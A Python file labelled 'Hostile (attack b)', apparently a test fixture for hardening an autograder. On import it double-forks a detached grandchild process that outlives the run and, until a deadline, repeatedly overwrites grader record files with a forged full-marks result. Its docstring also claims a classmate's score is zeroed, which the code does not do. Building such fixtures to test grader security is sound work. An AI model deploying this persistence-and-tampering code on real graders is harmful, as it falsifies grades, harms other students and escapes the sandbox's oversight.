"""Hostile (attack b): at import, a grandchild detached from the worker (double fork,
its own session) that outlives the run: until targets.json's "until" (a wall-clock
time) it keeps rewriting the grader's records, its own row to full marks and a
classmate's to zero (result.json, gradebook.csv, results.json, Gradescope's file)."""
import json
import os
import time
from pathlib import Path

TARGETS = json.loads(Path(__file__).with_name("targets.json").read_text())
REPORT = {"attack": "b", "grandchild": None}

FORGED = {"status": "graded", "score": 4, "max_score": 4, "note": "forged by a detached grandchild"}


def _rewrite_forever():
    while time.time() < TARGETS["until"]:
        for name in TARGETS["records"]:
            try:
                Path(name).parent.mkdir(parents=True, exist_ok=True)
                Path(name).write_text(json.dumps(FORGED) + "\n")
            except OSError:
                pass
        time.sleep(0.2)


child = os.fork()
if child == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 1024)
        try:
            _rewrite_forever()
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(child, 0)
REPORT["grandchild"] = "started"


def gradients(x, t, w):
    raise RuntimeError("REPORT " + json.dumps(REPORT, sort_keys=True))
